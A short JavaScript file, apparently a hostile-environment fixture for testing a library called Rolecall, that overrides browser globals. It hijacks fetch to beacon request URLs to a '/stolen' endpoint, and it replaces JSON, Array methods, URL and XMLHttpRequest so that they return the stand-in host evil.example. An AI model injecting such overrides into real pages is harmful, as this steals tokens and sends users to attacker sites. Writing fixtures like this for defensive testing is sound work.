/* global Response, navigator */
// What a page's scripts can put in the place of what Rolecall might rely on, to send a token or a person elsewhere.

const ELSEWHERE = "https://evil.example/";
const lie = JSON.stringify({ destination: ELSEWHERE });

globalThis.fetch = async (...given) => {
  navigator.sendBeacon("/stolen", String(given[0]));
  return new Response(lie);
};
JSON.stringify = () => lie;
JSON.parse = () => ({ destination: ELSEWHERE });
Array.prototype.map = function map() {
  return [ELSEWHERE];
};
Array.prototype.find = () => ELSEWHERE;
globalThis.XMLHttpRequest = class {};
globalThis.DOMParser = class {};
globalThis.URL = class {
  href = ELSEWHERE;
  origin = "https://evil.example";
};
